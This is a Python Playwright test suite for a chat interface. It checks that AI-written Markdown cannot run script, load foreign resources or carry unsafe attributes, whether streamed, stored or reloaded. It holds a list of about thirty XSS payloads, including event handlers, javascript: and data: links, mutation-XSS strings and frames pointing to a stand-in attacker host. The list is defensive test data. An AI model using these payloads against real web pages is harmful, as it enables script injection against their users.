"""What a model can write and a page must not do: shown at once, as it streams, and as it is stored."""

from __future__ import annotations

from playwright.async_api import Locator, Page, expect

from tests.browser.conftest import Guard
from tests.browser.playground import Playground

HOST = "http://attack.invalid"
ATTACKS = {
    "script": f"<script>window.hit = 1</script><script src='{HOST}/x.js'></script>",
    "event handlers": "<img src=x onerror='window.hit = 1'><b onclick='window.hit = 1' onmouseover=hit=1>bold</b>",
    "details": "<details open ontoggle='window.hit = 1'><summary>more</summary>text</details>",
    "svg": "<svg onload='window.hit = 1'><script>window.hit = 1</script><use href='data:image/svg+xml,<svg/>'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror='window.hit=1'></style></mglyph></table></math>",
    "template": "<template><img src=x onerror='window.hit = 1'></template><noscript><p title='</noscript><img src=x>'>",
    "javascript link": "[click](javascript:window.hit=1) <a href='javascript:window.hit=1'>click</a>",
    "disguised link": "[a](JaVaScRiPt&colon;window.hit=1) [b](java\tscript:window.hit=1) [c](&#106;avascript:hit=1)",
    "vbscript link": "[click](vbscript:msgbox) <vbscript:msgbox>",
    "autolink": "<javascript:window.hit=1> javascript:window.hit=1",
    "reference link": "[click][a]\n\n[a]: javascript:window.hit=1 'title'",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![look](data:image/svg+xml;base64,PHN2Zy8+) ![look](data:image/png;base64,AAAA)",
    "foreign image": f"![look]({HOST}/pixel.png) <img src='{HOST}/pixel.png'> <image src='{HOST}/x'>",
    "image in a link": f"[![look]({HOST}/a.png)]({HOST}/b)",
    "attribute break": f"![\"onerror=\"hit=1]({HOST}/'onerror='window.hit=1) [a]({HOST} \"' onclick='hit=1\")",
    "style": "<style>body { display: none }</style><p style='position:fixed;inset:0;background:red'>over the page</p>",
    "style import": f"<style>@import '{HOST}/x.css';</style><link rel=stylesheet href='{HOST}/x.css'>",
    "frames": f"<iframe src='{HOST}'></iframe><object data='{HOST}'></object><embed src='{HOST}'><portal src='{HOST}'>",
    "form": f"<form action='{HOST}'><input name=csrf autofocus onfocus='window.hit=1'><button>Send</button></form>",
    "base and meta": f"<base href='{HOST}'><meta http-equiv=refresh content='0;url={HOST}'>",
    "media": f"<video src='{HOST}/v' autoplay poster='{HOST}/p'></video><audio src='{HOST}/a' autoplay></audio>",
    "clobbering": "<a id=conversation name=form>x</a><form id=form><input name=attributes></form><p id=message>",
    "code fence": "```\"><img src=x onerror='window.hit=1'>\n<script>window.hit = 1</script>\n```",
    "table": "| a | b |\n|:-:|---|\n| <script>window.hit=1</script> | <img src=x onerror='window.hit=1'> |",
    "half a tag": "<img src=x onerror='window.hit = 1'",
    "comment": "<!-- --!><img src=x onerror='window.hit=1'> -->",
    "mutation": "<svg></p><style><a title='</style><img src=x onerror=window.hit=1>'>",
}
# All that may come of Markdown, and nothing that it may carry beside.
ALLOWED: dict[str, set[str]] = {
    "A": {"href", "title", "rel", "target"},
    "OL": {"start"},
    "DIV": {"class", "tabindex"},
}
PLAIN = {"BLOCKQUOTE", "BR", "CODE", "DEL", "EM", "H3", "H4", "H5", "H6", "HR", "LI", "P", "PRE", "STRONG", "UL"}
ALLOWED |= dict.fromkeys(PLAIN | {"TABLE", "TBODY", "TD", "TH", "THEAD", "TR"}, set())


async def check(answer: Locator, what: str) -> None:
    """Check that an answer is nothing but Markdown."""
    found = await answer.evaluate(
        """(body) => [...body.querySelectorAll("*")].map((element) =>
             [element.nodeName, Object.fromEntries([...element.attributes].map((one) => [one.name, one.value]))])"""
    )
    for name, attributes in found:
        assert name in ALLOWED, (what, name)
        assert attributes.keys() <= ALLOWED[name], (what, name, attributes)
        # A link to where none may lead is text.
        if "href" in attributes:
            assert attributes["href"].startswith(("http://", "https://", "mailto:")), what
            assert (attributes["rel"], attributes["target"]) == ("noopener noreferrer", "_blank"), what


async def check_all(play: Playground, guard: Guard) -> None:
    """Check all answers on the page, the page itself, and what it asked for."""
    answers = await play.page.locator("#conversation > .agent .body").all()
    assert len(answers) == len(ATTACKS)
    for answer, what in zip(answers, ATTACKS, strict=True):
        await check(answer, what)
    # Whoever clicks on what is there sets off nothing.
    await play.page.evaluate(
        """() => { for (const one of document.querySelectorAll("#conversation .body *"))
             for (const kind of ["click", "mouseover", "focus"]) one.dispatchEvent(new Event(kind)) }"""
    )
    assert await play.page.evaluate("[window.hit, document.forms.length, document.baseURI]") == [None, 1, play.page.url]
    assert [url for url in guard.requests if "attack" in url or url.endswith("/x")] == []


async def test_markdown_of_the_agent_does_nothing(play: Playground, guard: Guard) -> None:
    await play.choose("Plain")
    for what, attack in ATTACKS.items():
        invocation_id = await play.ask(f"Say: {attack}")
        assert (await play.status(invocation_id))["response"] == attack, what
    await check_all(play, guard)
    await play.page.reload()
    await expect(play.page.locator("#conversation > li")).to_have_count(2 * len(ATTACKS))
    await check_all(play, guard)


async def test_no_piece_of_it_does_anything_while_it_streams(play: Playground, guard: Guard) -> None:
    await play.say("Say: " + "\n\n".join(ATTACKS.values()))
    pieces = 0
    while await play.page.get_by_role("button", name="Stop").is_visible():
        await check(play.body, "a piece")
        pieces += 1
    assert pieces > 5
    await check(play.body, "all")
    assert await play.page.evaluate("window.hit") is None
    assert [url for url in guard.requests if "attack" in url] == []


async def test_what_a_person_writes_is_text(play: Playground, guard: Guard) -> None:
    text = "<img src=x onerror='window.hit = 1'> **not bold** [no](link)"
    await play.ask(text)
    said = play.page.locator(".user .body")
    assert await said.evaluate("(body) => [body.childElementCount, body.textContent]") == [0, text]


async def test_markdown_is_shown(play: Playground) -> None:
    await play.ask("Show me some Markdown.")
    body = play.body
    await expect(body.get_by_role("heading", name="A small tour", level=4)).to_be_visible()
    await expect(body.locator("strong")).to_have_text("bold")
    await expect(body.locator("ol > li")).to_have_count(2)
    await expect(body.locator("ul > li")).to_have_text(["calm pages", "short answers"])
    await expect(body.get_by_role("cell")).to_have_count(6)
    await expect(body.locator("pre code")).to_contain_text("return 6 * 7")
    link = body.get_by_role("link", name="link")
    await expect(link).to_have_attribute("href", "https://example.com/")
    await expect(link).to_have_attribute("rel", "noopener noreferrer")


async def test_raw_html_and_images_are_shown_as_text_and_links(play: Playground) -> None:
    await play.ask("Say: <b>not bold</b> ![a picture](https://example.com/x.png) - [x] done")
    await expect(play.body).to_have_text("<b>not bold</b> a picture - [x] done")
    await expect(play.body.get_by_role("link", name="a picture")).to_have_attribute("href", "https://example.com/x.png")
    await play.ask("Say: - [x] done\n- [ ] open")
    await expect(play.body.locator("li")).to_have_text(["☑ done", "☐ open"])


async def test_selection_in_an_answer_stays_while_more_of_it_comes(play: Playground) -> None:
    await play.say("Say: first paragraph\n\n" + " ".join(f"word{number}" for number in range(40)))
    first = play.body.locator("p").first
    await expect(play.body).to_contain_text("word3")
    await first.select_text()
    await play.ended()
    assert await play.page.evaluate("getSelection().toString()") == "first paragraph"


async def test_policy_refuses_inline_scripts_and_html_from_text(page: Page, guard: Guard) -> None:
    await Playground(page).open()
    refused = await page.evaluate(
        """() => {
          const script = document.createElement("script");
          try { script.textContent = "window.hit = 1"; document.body.append(script); } catch {}
          try { document.body.innerHTML = "<p>"; return "not refused"; } catch (problem) { return problem.name; }
        }"""
    )
    assert (refused, await page.evaluate("window.hit")) == ("TypeError", None)
    assert guard.problems
    assert all("TrustedHTML" in one or "TrustedScript" in one or "script" in one for one in guard.problems)
    guard.problems.clear()
